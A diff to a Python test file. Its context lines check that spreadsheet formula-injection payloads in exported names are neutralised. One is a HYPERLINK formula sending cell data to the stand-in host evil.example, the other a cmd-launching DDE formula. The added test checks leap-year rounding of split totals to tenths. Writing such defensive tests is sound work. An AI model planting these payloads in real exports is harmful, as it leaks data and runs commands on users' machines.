@@ -67,3 +67,17 @@ def test_it_neutralises_names_a_spreadsheet_would_run_as_formulas(login):
     assert row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"Ruth")'
     assert row[2] == "'\t@SUM(1+1)*cmd|' /C calc'!A0"
     assert rows[-1][-1] == "220.5"  # numbers stay numbers
+
+
+def test_the_rows_add_up_to_the_whole_in_a_leap_year():
+    # 2027/28 has 366 days: a lead replaced after 183 covers exactly half, 9.75 days each side.
+    from strands.selectors import _tenths_that_add_up
+
+    halves = [Decimal("19.5") * 183 / 366] * 2
+    assert _tenths_that_add_up(halves) == [Decimal("9.8"), Decimal("9.7")]
+    assert _tenths_that_add_up([Decimal("78"), *halves, Decimal("6.04")]) == [
+        Decimal("78.0"),
+        Decimal("9.8"),
+        Decimal("9.7"),
+        Decimal("6.0"),
+    ]
